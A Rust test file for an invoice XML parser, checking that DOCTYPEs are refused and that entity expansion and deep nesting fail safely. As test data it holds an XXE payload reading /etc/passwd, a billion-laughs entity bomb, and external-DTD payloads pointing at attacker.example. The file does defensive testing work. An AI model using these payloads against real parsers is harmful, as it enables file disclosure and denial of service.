//! Security: any DOCTYPE is refused before anything in it is interpreted,
//! so external entities (XXE) and entity expansion (billion laughs) cannot
//! happen; undeclared entity references are errors, not silently dropped.

use incasso_ubl::UblError;

use crate::common::{MINIMAL, parse_str};

fn assert_doctype_refused(xml: &str) {
    match parse_str(xml) {
        Err(UblError::DoctypeRefused { offset }) => {
            assert!(offset > 0 && offset <= xml.len() as u64, "offset {offset}");
        }
        other => panic!("expected DoctypeRefused, got {other:?}"),
    }
}

#[test]
fn xxe_payload_is_refused() {
    let xml = MINIMAL
        .replace(
            "<Invoice ",
            "<!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<Invoice ",
        )
        .replace("INV-1", "&xxe;");
    assert_doctype_refused(&xml);
    let err = parse_str(&xml).unwrap_err().to_string();
    assert!(err.contains("DOCTYPE"), "{err}");
}

#[test]
fn billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE Invoice [\n <!ENTITY lol \"lol\">\n");
    let mut prev = "lol".to_owned();
    for i in 1..=9 {
        let name = format!("lol{i}");
        dtd.push_str(&format!(
            " <!ENTITY {name} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
        prev = name;
    }
    dtd.push_str("]>\n");
    let xml = MINIMAL
        .replace("<Invoice ", &format!("{dtd}<Invoice "))
        .replace("INV-1", "&lol9;");
    let start = std::time::Instant::now();
    assert_doctype_refused(&xml);
    assert!(start.elapsed().as_secs() < 1);
}

#[test]
fn parameter_entities_and_external_dtds_are_refused() {
    assert_doctype_refused(&MINIMAL.replace(
        "<Invoice ",
        "<!DOCTYPE Invoice [ <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote; ]>\n<Invoice ",
    ));
    assert_doctype_refused(&MINIMAL.replace(
        "<Invoice ",
        "<!DOCTYPE Invoice SYSTEM \"http://attacker.example/x.dtd\">\n<Invoice ",
    ));
    assert_doctype_refused(&MINIMAL.replace("<Invoice ", "<!DOCTYPE Invoice>\n<Invoice "));
    assert_doctype_refused(&MINIMAL.replace("<Invoice ", "<!doctype Invoice>\n<Invoice "));
}

#[test]
fn undeclared_entity_references_are_errors() {
    let xml = MINIMAL.replace("INV-1", "&xxe;");
    match parse_str(&xml) {
        Err(UblError::Xml { message, line, .. }) => {
            assert!(message.contains("&xxe;"), "{message}");
            assert_eq!(line, 5);
        }
        other => panic!("expected Xml error, got {other:?}"),
    }
    let in_attr = MINIMAL.replace(r#"currencyID="EUR""#, r#"currencyID="&xxe;""#);
    assert!(matches!(parse_str(&in_attr), Err(UblError::Xml { .. })));
}

#[test]
fn deep_nesting_is_bounded() {
    let depth = 100_000;
    let xml = MINIMAL.replace(
        "{BODY}",
        &format!("{}{}", "<x>".repeat(depth), "</x>".repeat(depth)),
    );
    match parse_str(&xml) {
        Err(UblError::Xml { message, .. }) => {
            assert!(message.contains("nested deeper"), "{message}")
        }
        other => panic!("expected Xml error, got {other:?}"),
    }
}
